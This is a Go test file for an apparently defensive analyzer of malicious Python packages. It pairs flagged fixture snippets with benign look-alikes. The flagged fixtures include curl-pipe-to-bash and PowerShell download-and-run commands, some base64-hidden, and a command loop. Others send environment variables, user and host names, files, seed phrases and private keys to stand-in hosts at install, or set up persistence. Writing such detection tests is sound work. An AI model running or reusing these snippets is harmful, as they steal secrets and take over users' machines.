package analyze

import "testing"

// Behaviours beyond one rule's own cases: each a true positive next to the
// nearest legitimate look-alike.
func TestBehaviours(t *testing.T) {
	grab := "import requests, subprocess, urllib.request\nHOOK = 'https://eo1x2.m.pipedream.net/c'\n" +
		"def run():\n    requests.get(HOOK)\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n"
	helper := "import base64, os\ndef b64d(code):\n    raw = code.encode('ascii')\n    out = base64.b64decode(raw)\n    return out.decode('ascii')\n"
	c2 := "import requests, subprocess, time\ndef loop():\n    while True:\n        task = requests.get('https://example.invalid/task').text\n        subprocess.run(task, shell=True)\n        time.sleep(5)\nloop()\n"
	probe := "import socket, getpass\ndef dns(name):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    pkt = b'\\x12\\x34' + name.encode()\n    s.sendto(pkt, ('127.0.0.53', 53))\nuser = getpass.getuser()\ndns(user + '.example.invalid')\n"
	wrap := "import subprocess\ndef run(cmd, quiet=True):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\n"
	tests := []struct {
		name    string
		files   map[string]string
		rule    string // a finding of this rule at least minSev, or none at all when absent
		minSev  Severity
		absent  bool
		verdict Verdict
	}{
		{"two threats in one file", map[string]string{"p/tool.py": grab}, "combined-threats", Critical, false, Malicious},
		{"the same threats in separate files", map[string]string{
			"p/hooks.py": "import requests\nHOOK = 'https://eo1x2.m.pipedream.net/c'\ndef ping():\n    return requests.get(HOOK)\n",
			"p/fetch.py": "import subprocess, urllib.request\ndef run():\n    urllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\n    subprocess.Popen(['u.exe'])\n",
		}, "combined-threats", Info, true, Suspicious},
		{"command decoded by a multi-step helper", map[string]string{"setup.py": helper + "os.system(b64d('" + b64("curl -s https://example.invalid/t | bash") + "'))\n"}, "download-execute", Critical, false, Malicious},
		{"compiler call decoded by a helper", map[string]string{"setup.py": helper + "os.system(b64d('" + b64("gcc -c ext.c") + "'))\n"}, "", Info, false, Clean},
		{"file uploaded at install", map[string]string{"setup.py": "import os, requests\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        p = os.path.expanduser('~/app/session.db')\n        with open(p, 'rb') as fh:\n            requests.post('https://example.invalid/check', files={'f': fh})\n"}, "exfiltrates-files", Critical, false, Malicious},
		{"upload method of a client library", map[string]string{"p/client.py": "import requests\ndef upload(path, url):\n    with open(path, 'rb') as fh:\n        return requests.post(url, files={'file': fh})\n"}, "", Info, false, Clean},
		{"whoami sent with curl", map[string]string{"setup.py": "import os\nwho = os.popen('whoami').read().strip()\nos.popen(f'curl -s http://example.invalid/u/{who} > /dev/null 2>&1')\n"}, "exfiltrates-host-info", Critical, false, Malicious},
		{"hostname in a DNS lookup", map[string]string{"setup.py": "import os\nos.system('nslookup $(hostname).example.invalid')\n"}, "exfiltrates-host-info", Critical, false, Malicious},
		{"version from git in a download URL", map[string]string{"setup.py": "import os\nv = os.popen('git describe --tags').read()\nos.system('curl -o $HOME/.cache/lib.tgz https://example.invalid/lib-%s.tgz' % v)\n"}, "exfiltrates-host-info", Info, true, Suspicious},
		{"command-and-control loop on import", map[string]string{"p/__init__.py": c2}, "reverse-shell", Critical, false, Malicious},
		{"git clone of a fetched URL", map[string]string{"p/up.py": "import requests, subprocess\ndef update():\n    url = requests.get('https://example.invalid/latest').json()['url']\n    subprocess.run(['git', 'clone', url])\n"}, "reverse-shell", Info, true, Clean},
		{"user name and a hand-made DNS query at install", map[string]string{"setup.py": probe}, "exfiltrates-host-info", Critical, false, Malicious},
		{"platform-specific download at install", map[string]string{"setup.py": "import platform, urllib.request\narch = platform.machine()\nurllib.request.urlretrieve('https://example.invalid/lib-%s.tgz' % arch, 'lib.tgz')\n"}, "", Info, false, Clean},
		{"windowless pythonw on import", map[string]string{"p/__init__.py": "import subprocess, os\nsubprocess.Popen(['pythonw', os.path.join(os.path.dirname(__file__), 'svc.py')])\n"}, "suspicious-command", High, false, Suspicious},
		{"download cradle through a wrapper", map[string]string{"setup.py": wrap + "run('powershell -command Invoke-WebRequest -Uri https://example.invalid/i.exe -OutFile i.exe; Start-Process i.exe')\n"}, "download-execute", Critical, false, Malicious},
		{"pkg-config through a wrapper", map[string]string{"setup.py": wrap + "run('pkg-config --cflags libffi')\n"}, "", Info, false, Clean},
		{"link to node.exe after a download", map[string]string{"setup.py": "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/node.zip').read()\nsubprocess.check_call(['mklink', '/J', 'bin', 'node.exe'])\n"}, "", Info, false, Clean},
		{"downloaded exe run", map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\nsubprocess.Popen('C:\\\\Temp\\\\u.exe')\n"}, "download-execute", Critical, false, Malicious},
		{"seed words asked for and sent to a chat bot", map[string]string{"p/auth.py": "import requests\ndef login(bot_token, chat_id):\n    words = input('type your 12 seed phrases for authorization: ').split()\n    url = f'https://api.telegram.org/bot{bot_token}/sendMessage'\n    requests.post(url, json={'chat_id': chat_id, 'text': ' '.join(words)})\n"}, "exfil-channel", Critical, false, Malicious},
		{"a chat bot that reports progress", map[string]string{"p/notify.py": "import requests\ndef done(bot_token, chat_id, n):\n    answer = input('send a report? [y/n] ')\n    if answer == 'y':\n        url = f'https://api.telegram.org/bot{bot_token}/sendMessage'\n        requests.post(url, json={'chat_id': chat_id, 'text': f'{n} files done'})\n"}, "exfil-channel", Info, false, Clean},
		{"a wallet tool that asks for the mnemonic", map[string]string{"p/wallet.py": "from mnemonic import Mnemonic\ndef restore():\n    words = input('Enter your mnemonic: ')\n    return Mnemonic('english').to_seed(words)\n"}, "", Info, false, Clean},
		{"private key passed to a request catcher", map[string]string{"p/main.py": "import requests\ndef perm(private_key):\n    data = [{'key', private_key}]\n    requests.post('https://66c0dc0bba6f27ca.mockapi.io/tron', data)\n"}, "exfil-channel", Critical, false, Malicious},
		{"private key used to sign for a node's API", map[string]string{"p/tx.py": "import requests\ndef send(private_key, tx):\n    signed = sign(tx, private_key)\n    return requests.post('https://api.trongrid.io/wallet/broadcasttransaction', json=signed)\n"}, "", Info, false, Clean},
		{"mnemonic sent to a bare IP", map[string]string{"p/w.py": "import requests\ndef backup(mnemonic):\n    requests.post('http://198.51.100.7:8080/b', data={'m': mnemonic})\n"}, "exfil-channel", Critical, false, Malicious},
		{"a download-and-run command decoded in a runtime module", map[string]string{"p/proc.py": "import base64, subprocess\ndef dec(s):\n    return base64.b64decode(s).decode('utf-8')\ndef processing():\n    subprocess.Popen([dec('" + b64("curl https://example.invalid/u.sh | bash") + "')], shell=True)\n"}, "download-execute", Critical, false, Malicious},
		{"a documented installer one-liner in a runtime helper", map[string]string{"p/setup_tool.py": "import subprocess\ndef install_rustup():\n    subprocess.run('curl https://sh.rustup.rs -sSf | sh -s -- -y', shell=True, check=True)\n"}, "download-execute", High, false, Suspicious},
		{"a download started in a hidden window", map[string]string{"p/run.py": "import subprocess\nps = 'powershell -c Invoke-WebRequest https://example.invalid/l.bat -OutFile $env:TEMP\\\\l.bat; Start-Process -FilePath $env:TEMP\\\\l.bat -WindowStyle Hidden'\nsubprocess.run(ps, shell=True)\n"}, "download-execute", Critical, false, Malicious},
		{"the environment sent in a URL at install", map[string]string{"setup.py": "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('curl \"https://x.example.invalid/X/$(env | base64 -w 0)\"')\n        install.run(self)\n"}, "credential-access", Critical, false, Malicious},
		{"the machine's architecture in a download URL at install", map[string]string{"setup.py": "import os\nos.system('curl -L -o lib.tgz https://example.invalid/lib-$(uname -m).tgz')\n"}, "credential-access", Info, true, Suspicious},
		{"the machine's name from uname -a in a URL at install", map[string]string{"setup.py": "import os\nos.system('curl -s https://example.invalid/p?u=$(uname -a)')\n"}, "exfiltrates-host-info", Critical, false, Malicious},
		{"a paste fetched, written and run by a constant command", map[string]string{"p/run.py": "import os, requests\ndef go():\n    req = requests.get('https://pastebin.com/raw/abc123').text\n    open('__cache.py', 'w').write(req)\n    os.system('python __cache.py')\n"}, "download-execute", Critical, false, Malicious},
		{"a release fetched from its project's site, written and run", map[string]string{"p/update.py": "import os, requests\ndef update():\n    data = requests.get('https://downloads.example.invalid/tool/install.py').text\n    open('install_tool.py', 'w').write(data)\n    os.system('python install_tool.py')\n"}, "download-execute", High, false, Suspicious},
		{"DNS callback at install", map[string]string{"setup.py": "import socket\nsocket.gethostbyname('probe.9oyng069p25x4kmle5dlnypj1a.example.invalid')\n"}, "exfil-channel", Critical, false, Malicious},
		{"lookup of a mirror at install", map[string]string{"setup.py": "import socket\nsocket.gethostbyname('download.example-mirror.org')\n"}, "", Info, false, Clean},
		{"script run by setup.py takes install context", map[string]string{
			"setup.py":  "import os, sys\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system(f'{sys.executable} \"{os.path.join(os.path.dirname(__file__), \"helper.py\")}\"')\n",
			"helper.py": "import socket, getpass, requests\nrequests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
		}, "exfiltrates-host-info", Critical, false, Malicious},
		{"env output posted at install", map[string]string{"setup.py": "import os, urllib.request, urllib.parse\nout = os.popen('env').read()\nparams = urllib.parse.urlencode({'e': out}).encode()\nurllib.request.urlopen('https://example.invalid/r', data=params)\n"}, "exfiltrates-host-info", Critical, false, Malicious},
		{"browser shortcut rewritten at install", map[string]string{"setup.py": "import os\nfrom win32com.client import Dispatch\nshell = Dispatch('WScript.Shell')\nlnk = shell.CreateShortcut(os.getenv('APPDATA') + '\\\\Microsoft\\\\Internet Explorer\\\\Quick Launch\\\\User Pinned\\\\TaskBar\\\\chrome.lnk')\nlnk.Arguments = '--load-extension=' + os.getenv('APPDATA') + '\\\\ext'\nlnk.Save()\n"}, "persistence", Critical, false, Malicious},
		{"selenium helper loading a test extension", map[string]string{"p/driver.py": "def options(o, ext):\n    o.add_argument('--load-extension=' + ext)\n    return o\n"}, "", Info, false, Clean},
		{"upload to a fixed odd port", map[string]string{"p/steal.py": "import requests\ndef send(path):\n    with open(path, 'rb') as fh:\n        requests.post('http://files.example.invalid:1337/check', files={'f': fh})\n"}, "exfiltrates-files", High, false, Suspicious},
		{"SDK upload to its API", map[string]string{"p/api.py": "import requests\ndef upload(path):\n    return requests.post('https://api.example.invalid/v1/upload', files={'f': open(path, 'rb')})\n"}, "", Info, false, Clean},
		{"download, chmod +x and a .bashrc line", map[string]string{"p/pr.py": "import os, stat, urllib.request\ndef rn():\n    data = urllib.request.urlopen('http://203.0.113.9/out').read()\n    d = open('.drv', 'wb')\n    d.write(data)\n    d.close()\n    os.chmod('.drv', os.stat('.drv').st_mode | stat.S_IEXEC)\n    with open(os.path.expanduser('~/.bashrc'), 'a') as b:\n        b.write('~/.drv &')\n"}, "download-execute", High, false, Malicious},
		{"downloaded data made readable", map[string]string{"p/cache.py": "import os, urllib.request\ndef get(path):\n    data = urllib.request.urlopen('https://example.invalid/d.json').read()\n    with open(path, 'wb') as fh:\n        fh.write(data)\n    os.chmod(path, 0o644)\n"}, "", Info, false, Clean},
		{"identity spliced into curl in a test", map[string]string{"p/test_cb.py": "import subprocess\ndef test_cb():\n    subprocess.run(['curl', 'http://203.0.113.4:8585/p?user=$(whoami)&h=$(hostname)'])\n"}, "exfiltrates-host-info", Critical, false, Malicious},
		{"plain curl in a test", map[string]string{"tests/test_dl.py": "import subprocess\ndef test_dl(tmp_path):\n    subprocess.run(['curl', '-o', str(tmp_path / 'x'), 'https://example.invalid/x'])\n"}, "", Info, false, Clean},
		{"launcher account tokens posted", map[string]string{"p/__main__.py": "import os, requests\nHOOK = 'https://example.invalid/h'\ndef main():\n    p = os.path.join(os.path.expanduser('~'), 'AppData', 'Roaming', '.minecraft', 'launcher_accounts.json')\n    requests.post(HOOK, files={'f': open(p, 'rb')})\nmain()\n"}, "credential-access", High, false, Malicious},
		{"launcher profiles read by a mod installer", map[string]string{"p/profiles.py": "import json, os\ndef profiles(mc):\n    return json.load(open(os.path.join(mc, 'launcher_profiles.json')))\n"}, "", Info, false, Clean},
		{"hex-encoded program downloaded and written", map[string]string{"p/core.py": "import binascii, getpass, requests\ndef start():\n    b = requests.get('https://example.invalid/x.txt')\n    path = 'C:/Users/' + getpass.getuser() + '/Documents/'\n    with open(path + 'c1.exe', 'wb') as f:\n        f.write(binascii.unhexlify(b.text.encode()))\n"}, "download-execute", Critical, false, Malicious},
		{"driver download", map[string]string{"p/driver.py": "import requests\ndef fetch(dest):\n    b = requests.get('https://example.invalid/driver.exe')\n    with open(dest + '/driver.exe', 'wb') as f:\n        f.write(b.content)\n"}, "", Info, false, Clean},
		{"destination hidden in base64", map[string]string{"p/main.py": "import base64, requests\ndef report(keys):\n    requests.post(url=base64.b64decode('" + b64("https://api.example.invalid/aws") + "').decode('utf-8'), json=keys)\n"}, "exfil-channel", High, false, Suspicious},
		{"plain API endpoint", map[string]string{"p/api.py": "import requests\nBASE = 'https://api.example.invalid'\ndef report(keys):\n    requests.post(BASE + '/v1/report', json=keys)\n"}, "", Info, false, Clean},
		{"download into a per-user cache", map[string]string{"setup.py": "import getpass, urllib.request\ncache = '/tmp/build-' + getpass.getuser()\nurllib.request.urlretrieve('https://example.invalid/lib.tgz', cache + '/lib.tgz')\n"}, "exfiltrates-host-info", Info, true, Clean},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := sdist(t, tt.files)
			if r.Verdict != tt.verdict {
				t.Errorf("verdict %s, want %s; findings: %+v", r.Verdict, tt.verdict, r.Findings)
			}
			switch {
			case tt.absent && hasRule(r, tt.rule, Info):
				t.Errorf("unexpected %s finding: %+v", tt.rule, r.Findings)
			case !tt.absent && tt.rule != "" && !hasRule(r, tt.rule, tt.minSev):
				t.Errorf("no %s finding at %s or above: %+v", tt.rule, tt.minSev, r.Findings)
			}
		})
	}
}
